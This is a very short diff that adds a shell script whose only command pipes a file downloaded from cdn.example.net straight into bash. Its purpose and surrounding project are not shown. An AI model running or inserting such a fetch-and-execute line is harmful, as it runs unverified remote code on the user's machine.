@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://cdn.example.net/x.sh | bash
